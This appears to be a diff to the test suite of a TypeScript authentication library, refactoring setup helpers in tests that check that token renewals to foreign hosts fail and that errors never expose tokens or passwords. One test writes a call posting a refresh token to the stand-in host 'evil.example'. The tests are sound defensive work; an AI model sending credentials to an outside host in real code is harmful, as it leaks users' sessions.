@@ -2,14 +2,9 @@ import { createHttp, isAuthError } from 'mobx-miniprogram-auth'
 import { authorize } from 'mobx-miniprogram-auth/authorize'
 import type { Interceptor } from 'mobx-miniprogram-auth'
 import { fail, ok } from 'mobx-miniprogram-auth/testing'
-import { BASE, bearerOf, createWorld, errorOf, expired, outcome } from '../_world'
-import type { World } from '../_world'
+import { BASE, bearerOf, errorOf, expired, outcome, renewWorld, useWorld, world } from '../_world'
 
-let world: World
-beforeEach(() => {
-  world = createWorld()
-})
-afterEach(() => world.end())
+useWorld()
 
 /** Values that only the request itself may contain. */
 const SECRETS = /T0-secret|R0-secret|hunter2/
@@ -228,8 +223,7 @@ describe('R16 the answer of a foreign host to which a network interceptor redire
 })
 
 test('S116 a renewal that sends the refresh token to a foreign host fails, nothing is sent, and the session is kept', async () => {
-  world.end()
-  world = createWorld({
+  renewWorld({
     store: { refresh: () => world.http.post('https://evil.example/refresh', { refreshToken: 'R0' }) },
   })
   const error = await errorOf(world.store.refresh())
@@ -239,8 +233,7 @@ test('S116 a renewal that sends the refresh token to a foreign host fails, nothi
 })
 
 test('S116 a renewal that asks a foreign host fails also if its request contains no secret', async () => {
-  world.end()
-  world = createWorld({ store: { refresh: () => world.http.get('https://elsewhere.example/refresh') } })
+  renewWorld({ store: { refresh: () => world.http.get('https://elsewhere.example/refresh') } })
   expect((await errorOf(world.store.refresh())).cause).toEqual(
     new TypeError('Http: a login or renewal goes to the origin of baseUrl, or to one of allowOrigins'),
   )
@@ -248,8 +241,7 @@ test('S116 a renewal that asks a foreign host fails also if its request contains
 })
 
 test('S115 no error of a call, nor its causes, contains a token, a refresh token, a query or a password', async () => {
-  world.end()
-  world = createWorld({ signedIn: false })
+  renewWorld({ signedIn: false })
   world.store.setSession({ token: 'T0-secret', refreshToken: 'R0-secret' })
   const url = BASE + 'a?password=hunter2'
   const answers = [
@@ -276,8 +268,7 @@ test('S115 no error of a call, nor its causes, contains a token, a refresh token
 })
 
 test('S115 the error of a failed renewal and its causes contain neither the token nor the refresh token', async () => {
-  world.end()
-  world = createWorld({ signedIn: false })
+  renewWorld({ signedIn: false })
   world.store.setSession({ token: 'T0-secret', refreshToken: 'R0-secret' })
   world.backend.valid = 'nobody has this'
   world.backend.renew = () => fail('errcode:-2 POST ' + BASE + 'refresh?refreshToken=R0-secret', 600001)
